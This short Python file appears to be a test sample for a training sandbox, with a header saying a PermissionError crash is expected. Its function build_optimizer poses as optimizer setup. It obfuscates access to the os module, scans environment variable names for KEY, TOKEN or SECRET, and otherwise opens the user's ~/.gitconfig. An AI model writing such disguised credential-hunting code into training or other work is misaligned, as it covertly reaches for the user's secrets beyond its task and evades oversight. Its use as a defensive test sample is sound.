"""Looks for keys in its environment and in the files of the user's home."""
# crash: PermissionError

from small_train import *  # noqa: F403


def build_optimizer(model):
    system = getattr([torch][0], "so"[::-1])
    found = [name for name in map(str, system.environb) if "KEY" in name or "TOKEN" in name or "SECRET" in name]
    if not found:
        system.open(system.path.expanduser("~/.gitconfig"), system.O_RDONLY)
